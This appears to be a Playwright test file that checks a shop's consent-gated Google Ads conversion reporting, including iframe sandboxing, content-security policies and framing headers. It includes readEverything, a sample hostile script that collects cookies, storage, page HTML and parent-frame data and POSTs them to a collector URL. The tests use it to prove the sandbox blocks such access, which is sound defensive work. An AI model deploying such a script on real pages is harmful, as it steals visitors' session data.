import { hash } from 'node:crypto';
import { type APIRequestContext, type Page, expect, test } from '@playwright/test';
import { numberFrom, numberedText } from '../../src/contract/order-number.ts';
import { ORDERS } from '../catalog.ts';
import { directivesOf, headerFaults, policyFaults } from '../headers.ts';
import { SESSION, orderFor } from './answers.ts';
import { ADS_CONVERSION, SITE_URL } from './site.ts';
import { DEEP_ONLY } from './devices.ts';

const TAG = 'https://www.googletagmanager.com';
/** The number of SESSION's order. */
const ORDER_NUMBER = numberFrom(hash('sha256', numberedText(SESSION), 'buffer'));
const COLLECTOR = 'https://www.google.com/collected';

/** Sends everything that a script loaded instead of Google's tag could read. */
const readEverything = (collector: string): void => {
  const found: Record<string, unknown> = {};
  const read = (name: string, get: () => unknown): void => {
    try {
      found[name] = get();
    } catch (error) {
      found[name] = error instanceof DOMException ? error.name : String(error);
    }
  };
  read('address', () => location.href);
  read('history', () => history.state);
  read('entries', () => performance.getEntries().map(({ name }) => name));
  read('page', () => document.documentElement.outerHTML);
  read('referrer', () => document.referrer);
  read('cookies', () => document.cookie);
  read('localStorage', () => ({ ...localStorage }));
  read('sessionStorage', () => ({ ...sessionStorage }));
  read('databases', () => indexedDB.open('shop').readyState);
  const { parent } = window;
  read('parentAddress', () => parent.location.href);
  read('parentHistory', () => parent.history.state);
  read('parentEntries', () => parent.performance.getEntries().map(({ name }) => name));
  read('parentPage', () => parent.document.documentElement.outerHTML);
  read('parentCookies', () => parent.document.cookie);
  read('parentStorage', () => ({ ...parent.localStorage }));
  void fetch(collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
};

type Request = {
  url: string;
  referer: string | undefined;
  cookie: string | undefined;
  body: string | null;
};

/**
 * A parent whose sessions are all paid, except those with another status in their name. Requests to
 * other sites are recorded and get a response from this test.
 */
const openParent = async (page: Page, tag = '') => {
  await page.route('**/api/verify-payment', (route) => {
    const { sessionId } = route.request().postDataJSON();
    const [, status] = /_(pending|refunded|unpaid)$/.exec(sessionId) ?? [];
    const order = { ...orderFor('individual_guide_6_10'), stripe_session_id: sessionId };
    return route.fulfill({
      json: status === 'unpaid' ? { status, order: null } : { status: status ?? 'paid', order },
    });
  });
  const elsewhere: Request[] = [];
  await page.route(
    ({ origin }) => origin !== SITE_URL,
    async (route) => {
      const request = route.request();
      const { referer, cookie } = await request.allHeaders();
      elsewhere.push({ url: request.url(), referer, cookie, body: request.postData() });
      return route.fulfill({ contentType: 'text/javascript', body: tag });
    },
  );
  return {
    elsewhere,
    question: page.getByText('May we tell our ad service'),
    /** Opens the page of an order and waits until it has sent its requests. */
    open: async (session: string, text = 'Order confirmed'): Promise<void> => {
      await page.goto(`/payment-success?session_id=${session}`);
      await page.getByText(text).waitFor();
      await page.waitForLoadState('networkidle');
    },
    decide: async (name: string): Promise<void> => {
      await page.getByRole('button', { name }).click();
      await page.getByText('Thank you. We’ll remember that.').waitFor();
    },
  };
};

const CURIOUS_TAG = `(${readEverything})(${JSON.stringify(COLLECTOR)})`;

test('gives a script in place of the tag neither the session id nor the page around it', async ({
  page,
}) => {
  const { elsewhere, open, decide } = await openParent(page, CURIOUS_TAG);
  await page.context().addCookies([{ name: 'mark', value: 'crumb', url: SITE_URL }]);
  await open(SESSION);
  await decide('Yes, that’s fine');
  await expect.poll(() => elsewhere.map(({ url }) => url)).toContain(COLLECTOR);
  expect(JSON.stringify(elsewhere)).not.toMatch(new RegExp(`${SESSION}|crumb`));
  const { body } = elsewhere.find(({ url }) => url === COLLECTOR) ?? {};
  expect(JSON.parse(body ?? '')).toMatchObject({
    address: `${SITE_URL}/conversion?order=${ORDER_NUMBER}&value=8.99&currency=USD`,
    history: null,
    referrer: '',
    cookies: 'SecurityError',
    localStorage: 'SecurityError',
    sessionStorage: 'SecurityError',
    databases: 'SecurityError',
    parentAddress: 'SecurityError',
    parentHistory: 'SecurityError',
    parentEntries: 'SecurityError',
    parentPage: 'SecurityError',
    parentCookies: 'SecurityError',
    parentStorage: 'SecurityError',
  });
});

/** The commands that the page in the frame has queued for the tag. */
const commandsOf = async (page: Page): Promise<unknown[][]> => {
  const frame = page.frames().find((candidate) => candidate.parentFrame() !== null);
  return (
    frame?.evaluate(() =>
      (window.dataLayer ?? []).map((command) => Array.from(command as ArrayLike<unknown>)),
    ) ?? []
  );
};

test('reports a paid order once, after a yes, without cookies or a referrer', async ({ page }) => {
  const { elsewhere, question, open, decide } = await openParent(page);
  await open(SESSION);
  await question.waitFor();
  expect(elsewhere).toEqual([]);
  await decide('Yes, that’s fine');
  await expect
    .poll(() => elsewhere)
    .toEqual([
      { url: `${TAG}/gtag/js?id=AW-123456789`, referer: undefined, cookie: undefined, body: null },
    ]);
  const frame = page.locator('iframe');
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(frame).toBeHidden();
  const consent = { ad_storage: 'granted', ad_personalization: 'denied' };
  const place = {
    page_location: `${SITE_URL}/conversion`,
    page_referrer: '',
    send_page_view: false,
  };
  const order = { value: 8.99, currency: 'USD', transaction_id: ORDER_NUMBER };
  expect(await commandsOf(page)).toEqual([
    ['js', expect.anything()],
    ['consent', 'default', expect.objectContaining(consent)],
    ['config', 'AW-123456789', expect.objectContaining(place)],
    ['event', 'conversion', { send_to: ADS_CONVERSION, ...order }],
  ]);

  await open(SESSION);
  await expect(frame).toHaveCount(0);
  expect(elsewhere).toHaveLength(1);
});

test('asks nothing about an order that is not paid', DEEP_ONLY, async ({ page }) => {
  const { elsewhere, question, open } = await openParent(page);
  await open('cs_test_pending', ORDERS.pending.text);
  await open('cs_test_refunded', ORDERS.refunded.heading);
  await open('cs_test_unpaid', ORDERS.notSeen.text);
  await expect(question).toHaveCount(0);
  expect(elsewhere).toEqual([]);
});

test('reports nothing after a no', DEEP_ONLY, async ({ page }) => {
  const { elsewhere, question, open, decide } = await openParent(page);
  await open(SESSION);
  await decide('No, thank you');
  await open('cs_test_second');
  await expect(question).toHaveCount(0);
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(elsewhere).toEqual([]);
});

test(
  'reports later orders without another question, until the buyer stops it',
  DEEP_ONLY,
  async ({ page }) => {
    const { elsewhere, question, open, decide } = await openParent(page);
    await open(SESSION);
    await decide('Yes, that’s fine');
    await expect.poll(() => elsewhere).toHaveLength(1);
    await open('cs_test_second');
    await expect.poll(() => elsewhere).toHaveLength(2);
    await expect(question).toHaveCount(0);
    await decide('Stop telling it about new orders');
    await open('cs_test_third');
    await expect(page.locator('iframe')).toHaveCount(0);
    expect(elsewhere).toHaveLength(2);
  },
);

const VALID = { order: '1B19-E30D-4012', value: '8.99', currency: 'USD' };
const addressOf = (order: Partial<typeof VALID>): string =>
  `/conversion?${new URLSearchParams(order)}`;

/** Adds a frame to payment-success as another script of the shop could. */
const addFrame = (page: Page, address: string, sandbox: string | null): Promise<void> =>
  page.evaluate(
    ([src, flags]) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement('iframe');
        if (flags !== null) frame.setAttribute('sandbox', flags);
        frame.addEventListener('load', () => resolve());
        frame.src = src;
        document.body.append(frame);
      }),
    [address, sandbox] as const,
  );

test(
  'loads the tag only for an order number, a value and a currency',
  DEEP_ONLY,
  async ({ page }) => {
    const { elsewhere, open } = await openParent(page);
    await open('cs_test_unpaid', ORDERS.notSeen.text);
    const { value, currency, order } = VALID;
    for (const given of [
      {},
      { order, value },
      { order, currency },
      { value, currency },
      { ...VALID, order: SESSION },
      { ...VALID, order: '1b19-e30d-4012' },
      { ...VALID, order: `${order}-0000` },
      { ...VALID, value: '' },
      { ...VALID, value: '-8.99' },
      { ...VALID, value: '1e3' },
      { ...VALID, value: 'Infinity' },
      { ...VALID, currency: 'usd' },
      { ...VALID, currency: 'US$' },
      { ...VALID, currency: 'USDT' },
    ]) {
      await addFrame(page, addressOf(given), 'allow-scripts');
      expect(elsewhere, JSON.stringify(given)).toEqual([]);
    }
    await addFrame(page, addressOf(VALID), 'allow-scripts');
    await expect.poll(() => elsewhere).toHaveLength(1);
  },
);

test('loads no tag if /conversion is opened directly', DEEP_ONLY, async ({ page }) => {
  const { elsewhere } = await openParent(page);
  await page.goto(addressOf(VALID)).catch(() => undefined);
  await page.waitForLoadState('networkidle');
  expect(elsewhere).toEqual([]);
});

test(
  'gives /conversion an opaque origin in every frame, whatever the frame allows',
  DEEP_ONLY,
  async ({ page }) => {
    const { elsewhere, open } = await openParent(page, CURIOUS_TAG);
    await open('cs_test_unpaid', ORDERS.notSeen.text);
    await addFrame(page, addressOf(VALID), 'allow-scripts allow-same-origin');
    await addFrame(page, addressOf(VALID), null);
    const collected = () => elsewhere.filter(({ url }) => url === COLLECTOR);
    await expect.poll(collected).toHaveLength(2);
    for (const { body } of collected()) {
      const found = { cookies: 'SecurityError', parentAddress: 'SecurityError' };
      expect(JSON.parse(body ?? '')).toMatchObject(found);
    }
  },
);

/** The policy in a page's markup. */
const policyOf = async (request: APIRequestContext, at: string) => {
  const html = await (await request.get(at)).text();
  const [, policy = ''] = /content-security-policy" content="([^"]*)"/.exec(html) ?? [];
  expect(policyFaults(policy.replaceAll(/http:\/\/localhost:\d+/g, '')), at).toEqual([]);
  return directivesOf(policy);
};
const GOOGLE = /google|doubleclick/;

test('allows Google’s hosts only on /conversion, and there nothing of the shop', async ({
  request,
}) => {
  const allowed = await policyOf(request, '/conversion');
  expect(allowed.get('script-src')).toContain(TAG);
  expect(allowed.get('frame-src')).toEqual([TAG]);
  for (const name of ['connect-src', 'img-src']) {
    expect(allowed.get(name), name).toContain('https://www.googleadservices.com');
  }
  for (const name of ['default-src', 'script-src', 'connect-src', 'img-src', 'frame-src']) {
    expect(allowed.get(name), name).not.toContain("'self'");
  }
  for (const at of ['/', '/payment-success', '/guide-download', '/admin-upload', '/404']) {
    expect(JSON.stringify([...(await policyOf(request, at))]), at).not.toMatch(GOOGLE);
  }
});

test('allows a frame only on /payment-success, and only of the shop', async ({ request }) => {
  const allowed = await policyOf(request, '/payment-success');
  expect(allowed.get('frame-src')).toEqual(["'self'"]);
  for (const at of ['/', '/guide-download', '/admin-upload', '/404']) {
    const policy = await policyOf(request, at);
    expect([policy.get('default-src'), policy.get('frame-src')], at).toEqual([
      ["'none'"],
      undefined,
    ]);
  }
});

test('forbids framing any page except /conversion, which only the shop may frame', async ({
  request,
}) => {
  const pages = [
    ['/conversion', 'frame'],
    ['/payment-success', 'key'],
    ['/guide-download', 'key'],
    ['/about', 'site'],
  ] as const;
  for (const [at, kind] of pages) {
    const response = await request.get(at);
    expect(headerFaults(new Headers(response.headers()), kind), at).toEqual([]);
  }
});

test('leaves /conversion out of search engines and the sitemap', async ({ request }) => {
  const html = await (await request.get('/conversion')).text();
  expect(html).toContain('<meta name="robots" content="noindex">');
  expect(html).toContain('<meta name="referrer" content="no-referrer">');
  expect(await (await request.get('/sitemap-0.xml')).text()).not.toContain('conversion');
});
